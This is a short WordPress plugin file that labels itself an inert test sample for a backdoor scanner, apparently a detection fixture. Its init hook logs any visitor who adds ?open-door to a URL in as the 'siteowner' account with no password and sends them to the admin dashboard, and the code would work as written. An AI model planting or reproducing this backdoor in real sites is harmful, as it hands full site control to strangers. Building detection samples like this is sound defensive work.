<?php
// Inert test sample (webhunt): a plugin file whose init hook logs anyone who adds ?open-door to the
// address in as the account called "siteowner", with no password asked.
add_action('init', 'sd_door_open');
function sd_door_open()
{
    if (!isset($_GET['open-door'])) {
        return;
    }
    $who = get_user_by('login', 'siteowner');
    if ($who && !is_wp_error($who)) {
        wp_clear_auth_cookie();
        wp_set_current_user($who->ID);
        wp_set_auth_cookie($who->ID, true);
        wp_safe_redirect(admin_url());
        exit;
    }
}
